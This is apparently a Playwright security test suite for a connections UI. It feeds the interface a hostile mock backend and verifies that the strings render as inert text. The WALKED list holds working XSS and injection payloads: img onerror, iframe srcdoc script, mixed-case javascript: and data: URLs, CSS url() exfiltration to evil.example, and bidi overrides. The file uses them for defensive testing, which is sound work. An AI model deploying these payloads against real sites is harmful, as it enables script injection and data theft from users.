// A hostile backend cannot run script, create markup, links or styles, reach another host, or
// break the layout through the elements. Every string the backend sends is one of the mocks'
// `hostilePayloads` (markup with script and handlers, javascript:/data: URLs in mixed case, CSS
// url() injection, 10,000-character strings, bidi overrides, null bytes): app name, description,
// aliases, categories, logo and help URLs, health message, method label/help/help URL, field
// labels/help/placeholder/format hint/options, scope descriptions, setup step title, instructions
// and help URL, connection label, lastError message and request id, webhook URL. A control page
// that renders the same payloads unsafely proves each check reports what it guards against.
import type { Page } from '@playwright/test';
import { hostilePayloads } from '@plugboard/mocks';
import { expect, test } from '../../harness/fixtures.js';
import { serveHostileBackend } from '../../harness/hostile-backend.js';
import {
  NO_FINDINGS,
  blockOutboundRequests,
  inspectPage,
  installScriptTraps,
  type HostileFindings,
} from '../../harness/hostile-checks.js';
import { chooseHostileApp, closeDialog, scrollThrough } from '../../harness/hostile-walk.js';

/** Apps whose dialogs are walked: markup, script URLs, CSS, bidi, null bytes and huge strings. */
const WALKED = [
  '<img src=x onerror=alert("pb-xss-2")>',
  '<iframe srcdoc="<script>alert(\'pb-xss-4\')</script>"></iframe>',
  '<a href="javascript:alert(\'pb-xss-11\')">click</a>',
  'JaVaScRiPt:alert("pb-xss-21")',
  'DATA:text/html,<script>alert("pb-xss-30")</script>',
  'https://example.com@evil.example/',
  'url("https://evil.example/steal?c=")',
  '</style><style>*{display:none!important}</style>',
  'Pipedrive \u202Eevil\u202C admin',
  'null\u0000byte\u0000inside',
  'A'.repeat(10_000),
  'W'.repeat(5_000) + ' ' + 'i'.repeat(4_999),
];

/** Logo URLs may be any https: URL by design (img-src https:); only these may leave loopback. */
const HTTPS_PAYLOAD_URLS = new Set(
  hostilePayloads.flatMap((payload) => {
    if (!/^https:/i.test(payload)) return [];
    const url = new URL(payload);
    return [url.href, `${url.protocol}//${url.host}${url.pathname}${url.search}`];
  }),
);

// Trace DOM snapshots of a page full of 10,000-character strings take seconds per action.
test.use({
  viewport: { width: 1024, height: 768 },
  trace: { mode: 'retain-on-failure', snapshots: false },
});

/** Collects findings at each checkpoint, each labelled with the first place it was seen. */
function findingsLog(page: Page) {
  const all: HostileFindings = { ran: [], markup: [], links: [], styles: [], layout: [] };
  const seen = new Set<string>();
  return {
    all,
    async checkpoint(where: string) {
      const found = await inspectPage(page);
      for (const key of Object.keys(all) as (keyof HostileFindings)[]) {
        for (const finding of found[key]) {
          if (seen.has(finding)) continue;
          seen.add(finding);
          all[key].push(`${where}: ${finding}`);
        }
      }
    },
  };
}

test('every hostile string reaches the elements as inert text', async ({
  page,
  context,
  pageServer,
}) => {
  test.setTimeout(150_000);
  expect(WALKED.every((payload) => hostilePayloads.includes(payload))).toBe(true);
  const dialogs = await installScriptTraps(page);
  const outbound = await blockOutboundRequests(context);
  await serveHostileBackend(page, `${pageServer.origin}/mock-api`);
  const log = findingsLog(page);

  await page.goto(pageServer.url('hostile/index.html'));
  // One card per payload, each labelled with it and failing with it.
  await expect(page.locator('connection-status')).toHaveCount(hostilePayloads.length);
  await scrollThrough(page.locator('html'), () => log.checkpoint('connections list'));

  // Every card's error popover (the lastError message and request id).
  const details = page.getByRole('button', { name: 'Details', exact: true });
  const detailCount = await details.count();
  expect(detailCount).toBe(hostilePayloads.length);
  for (let index = 0; index < detailCount; index += 1) {
    await details.nth(index).click();
    await expect(details.nth(index)).toHaveAttribute('aria-expanded', 'true');
    await log.checkpoint(`error popover ${index}`);
    await details.nth(index).click();
  }

  // The picker's whole list, scrolled through (its rows are recycled as it scrolls).
  await page.getByRole('button', { name: 'Add a connection' }).click();
  const picker = page.getByRole('dialog', { name: 'Choose an app to connect' });
  const listbox = picker.getByRole('listbox', { name: 'Apps' });
  await expect(listbox.getByRole('option').first()).toBeVisible();
  const stops = await scrollThrough(listbox, () => log.checkpoint('picker'));
  expect(stops).toBeGreaterThan(3);
  await picker.getByRole('button', { name: 'Close' }).click();

  let setupSteps = 0;
  for (const payload of WALKED) {
    const app = `app ${hostilePayloads.indexOf(payload)}`;
    // API key: method choice, the credential form, then the webhook setup step.
    let dialog = await chooseHostileApp(page, payload);
    await expect(
      dialog.getByRole('heading', { name: 'How do you want to connect?' }),
    ).toBeVisible();
    await log.checkpoint(`${app} method choice`);
    await dialog.getByRole('listitem').nth(0).getByRole('button').click();
    const key = dialog.locator('input[type="password"]');
    await key.fill('demo-key-123');
    await log.checkpoint(`${app} credential form`);
    await dialog.getByRole('button', { name: 'Connect', exact: true }).click();
    // The setup step, or (when this app's account is already connected) the duplicate notice,
    // which names the existing connection: both render server strings.
    const webhookUrl = dialog.getByLabel('Webhook URL');
    const duplicate = dialog.getByRole('button', { name: 'Update it instead' });
    await expect(webhookUrl.or(duplicate)).toBeVisible();
    if (await webhookUrl.isVisible()) {
      setupSteps += 1;
      // The webhook URL shown is the hostile one (serveHostileBackend rewrote it).
      expect(await webhookUrl.inputValue()).not.toMatch(/\/v1\/hooks\//);
    }
    await log.checkpoint(`${app} setup step`);
    await closeDialog(dialog);

    // OAuth: the notice with the scope descriptions.
    dialog = await chooseHostileApp(page, payload);
    await dialog.getByRole('listitem').nth(1).getByRole('button').click();
    await expect(dialog.getByRole('button', { name: /^Continue with/ })).toBeVisible();
    await log.checkpoint(`${app} OAuth notice`);
    await closeDialog(dialog);
  }

  expect(setupSteps).toBeGreaterThanOrEqual(WALKED.length - 2);
  expect(log.all).toEqual(NO_FINDINGS);
  expect(dialogs).toEqual([]);
  const leaving = outbound.filter((request) => {
    const [type, url] = request.split(' ');
    return !(type === 'image' && HTTPS_PAYLOAD_URLS.has(url!));
  });
  expect(leaving).toEqual([]);
});

test('the checks report a page that renders the same payloads unsafely', async ({
  page,
  context,
  pageServer,
}) => {
  const dialogs = await installScriptTraps(page);
  const outbound = await blockOutboundRequests(context);
  await page.goto(pageServer.url('hostile/unsafe.html'));
  await expect(page.locator('unsafe-card')).toBeVisible();
  await expect.poll(async () => (await inspectPage(page)).ran).not.toEqual([]);
  const findings = await inspectPage(page);
  expect(findings.markup.join('\n')).toMatch(/<img> in <unsafe-card> with onerror=/);
  expect(findings.markup.join('\n')).toMatch(/<iframe> in <unsafe-card>/);
  expect(findings.links).toEqual([expect.stringMatching(/href=JaVaScRiPt:/)]);
  expect(findings.styles).toEqual([expect.stringMatching(/url\(http:\/\/evil\.example/)]);
  expect(findings.layout.join('\n')).toMatch(/scrolls sideways/);
  expect(findings.ran.join('\n')).toContain('pb-xss-2');
  await expect.poll(() => outbound).toContainEqual('image http://evil.example/tracker.png');
  expect(dialogs).toEqual([]);
});
